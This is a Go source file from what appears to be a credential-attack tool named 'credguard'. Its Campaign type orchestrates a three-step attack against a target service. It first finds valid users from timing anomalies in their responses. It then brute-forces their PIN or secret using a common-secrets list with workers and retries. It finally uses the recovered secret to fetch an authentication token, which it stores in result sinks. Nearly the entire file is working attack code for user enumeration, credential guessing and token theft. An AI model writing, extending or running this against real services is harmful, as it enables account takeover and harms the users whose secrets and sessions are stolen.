package probe

import (
	"context"
	"fmt"
	"time"

	"github.com/google/uuid"

	"github.com/your-org/credguard/internal/config"
	"github.com/your-org/credguard/internal/domain"
	"github.com/your-org/credguard/internal/probe/sink"
	"github.com/your-org/credguard/internal/service/metrics"
	"github.com/your-org/credguard/pkg/errors"
	"github.com/your-org/credguard/pkg/logger"
)

// Campaign runs identification, extraction and token fetch against one
// target.
type Campaign struct {
	cfg      config.ProbeConfig
	oracle   Oracle
	sampler  *Sampler
	searcher *Searcher
	sinks    []sink.Sink
	metrics  *metrics.Metrics
	runID    string
	target   string
	now      func() time.Time
}

// CampaignOption configures a Campaign.
type CampaignOption func(*Campaign)

// WithSinks sets the extraction sinks.
func WithSinks(sinks ...sink.Sink) CampaignOption {
	return func(c *Campaign) {
		c.sinks = sinks
	}
}

// WithCampaignMetrics sets the metrics sink.
func WithCampaignMetrics(m *metrics.Metrics) CampaignOption {
	return func(c *Campaign) {
		c.metrics = m
	}
}

// WithTarget labels the report with the target description.
func WithTarget(target string) CampaignOption {
	return func(c *Campaign) {
		c.target = target
	}
}

// WithRunID fixes the run id.
func WithRunID(id string) CampaignOption {
	return func(c *Campaign) {
		c.runID = id
	}
}

// NewCampaign creates a Campaign from probe configuration.
func NewCampaign(cfg config.ProbeConfig, oracle Oracle, opts ...CampaignOption) *Campaign {
	c := &Campaign{
		cfg:     cfg,
		oracle:  oracle,
		metrics: metrics.DefaultMetrics,
		runID:   uuid.NewString(),
		target:  cfg.TargetURL,
		now:     time.Now,
	}
	for _, opt := range opts {
		opt(c)
	}

	c.sampler = NewSampler(oracle,
		WithSampleSize(cfg.SampleSize),
		WithSamplerWorkers(cfg.SampleWorkers),
		WithSampleTimeout(cfg.SampleTimeout),
		WithSamplerMetrics(c.metrics),
	)
	c.searcher = NewSearcher(oracle,
		WithPinLength(cfg.PinLength),
		WithCommonSecrets(cfg.CommonSecrets),
		WithSearchWorkers(cfg.Workers),
		WithRetries(cfg.Retries),
		WithBatchSize(cfg.BatchSize),
		WithSearchTimeout(cfg.SearchTimeout),
		WithSearcherMetrics(c.metrics),
	)
	return c
}

// RunID returns the campaign run id.
func (c *Campaign) RunID() string {
	return c.runID
}

// Identities returns the identity space: the configured range followed by
// any extra identities not already in it.
func (c *Campaign) Identities() []domain.Identity {
	var ids []domain.Identity
	if c.cfg.IdentityFrom <= c.cfg.IdentityTo {
		// Stop on equality; id++ past MaxInt64 wraps.
		for id := c.cfg.IdentityFrom; ; id++ {
			ids = append(ids, domain.Identity(id))
			if id == c.cfg.IdentityTo {
				break
			}
		}
	}
	for _, id := range c.cfg.ExtraIdentities {
		if id >= c.cfg.IdentityFrom && id <= c.cfg.IdentityTo {
			continue
		}
		ids = append(ids, domain.Identity(id))
	}
	return ids
}

// Identify samples the identity space and runs the anomaly analysis. It
// returns ErrNoAnomaly, alongside the profile and detection, when nothing
// is flagged.
func (c *Campaign) Identify(ctx context.Context) (domain.TimingProfile, *domain.Detection, error) {
	start := time.Now()
	defer func() { c.metrics.RecordPhase(string(domain.PhaseIdentify), time.Since(start)) }()

	ids := c.Identities()
	logger.WithContext(ctx).Info("scanning identities",
		logger.Int64("from", c.cfg.IdentityFrom),
		logger.Int64("to", c.cfg.IdentityTo),
		logger.Int("count", len(ids)),
	)

	profile, err := c.sampler.Profile(ctx, ids, c.cfg.ProbeSecret)
	if err != nil {
		return nil, nil, err
	}

	detection, err := Detect(profile, c.cfg.SpreadMultiplier, WithMinEffect(c.cfg.MinEffect))
	if err != nil {
		return profile, nil, err
	}
	c.metrics.SetFlagged(len(detection.Flagged))

	best, ok := detection.Best()
	if !ok {
		logger.WithContext(ctx).Info("no timing anomalies detected",
			logger.Float64("baseline", detection.Baseline),
			logger.Float64("threshold", detection.Threshold),
		)
		return profile, &detection, errors.New(errors.CodeNoAnomaly, "no identity above threshold", errors.ErrNoAnomaly).
			WithDetail("baseline", detection.Baseline).
			WithDetail("threshold", detection.Threshold)
	}

	logger.WithContext(ctx).Info("identified user",
		logger.Int64("user_id", int64(best)),
		logger.Float64("delta_seconds", detection.Flagged[0].Delta),
		logger.Int("flagged", len(detection.Flagged)),
	)
	return profile, &detection, nil
}

// Extract searches the secret of id.
func (c *Campaign) Extract(ctx context.Context, id domain.Identity) (domain.SearchResult, error) {
	start := time.Now()
	defer func() { c.metrics.RecordPhase(string(domain.PhaseExtract), time.Since(start)) }()

	logger.WithContext(ctx).Info("starting secret search", logger.Int64("user_id", int64(id)))
	return c.searcher.Search(ctx, id)
}

// FetchToken performs one more verification with the recovered secret.
func (c *Campaign) FetchToken(ctx context.Context, id domain.Identity, secret string) (string, error) {
	callCtx, cancel := context.WithTimeout(ctx, c.searcher.timeout)
	defer cancel()

	out, err := c.oracle.Attempt(callCtx, id, secret)
	if err != nil {
		return "", err
	}
	if !out.Accepted {
		return "", fmt.Errorf("%w: recovered secret rejected", errors.ErrUnexpectedResponse)
	}
	return out.Token, nil
}

// Run executes the configured phases and returns the report. The report
// is returned even when a phase fails.
func (c *Campaign) Run(ctx context.Context) (*domain.Report, error) {
	ctx = logger.With(ctx, logger.String("run_id", c.runID))
	started := c.now()
	report := &domain.Report{RunID: c.runID, Target: c.target}

	finish := func(err error) (*domain.Report, error) {
		report.StartedAt = started
		report.FinishedAt = c.now()
		if c.cfg.Report.Path != "" {
			if werr := WriteReport(c.cfg.Report.Path, report); werr != nil {
				logger.WithContext(ctx).Error("failed to write report", logger.Err(werr))
			}
		}
		logger.WithContext(ctx).Info("campaign finished",
			logger.Duration("duration", report.FinishedAt.Sub(started)),
		)
		return report, err
	}

	phase := domain.Phase(c.cfg.Phase)
	if phase == "" {
		phase = domain.PhaseAll
	}

	var targets []domain.Identity
	if c.cfg.Identity != 0 {
		targets = []domain.Identity{domain.Identity(c.cfg.Identity)}
	}

	if phase == domain.PhaseIdentify || (phase == domain.PhaseAll && len(targets) == 0) {
		profile, detection, err := c.Identify(ctx)
		if profile != nil {
			r := domain.NewReport(c.runID, c.target, profile, detection)
			report.Entries, report.Detection = r.Entries, r.Detection
		}
		if err != nil {
			return finish(err)
		}
		if phase == domain.PhaseIdentify {
			return finish(nil)
		}
		targets = detection.FlaggedIdentities()
	}

	if len(targets) == 0 {
		return finish(fmt.Errorf("%w: extraction needs an identity", errors.ErrConfigInvalid))
	}

	for _, id := range targets {
		result, err := c.Extract(ctx, id)
		report.Searches = append(report.Searches, result)
		if err != nil {
			return finish(err)
		}
		if !result.Found {
			continue
		}

		token, err := c.FetchToken(ctx, id, result.Secret)
		if err != nil {
			logger.WithContext(ctx).Warn("token fetch failed", logger.Int64("user_id", int64(id)), logger.Err(err))
		}

		extraction := domain.Extraction{
			Timestamp: c.now(),
			RunID:     c.runID,
			Identity:  id,
			Secret:    result.Secret,
			Token:     token,
		}
		report.Extraction = &extraction
		c.persist(ctx, extraction)
		break
	}

	return finish(nil)
}

func (c *Campaign) persist(ctx context.Context, e domain.Extraction) {
	for _, s := range c.sinks {
		if err := s.Save(ctx, e); err != nil {
			logger.WithContext(ctx).Warn("result sink failed", logger.String("sink", s.Name()), logger.Err(err))
		}
	}
}
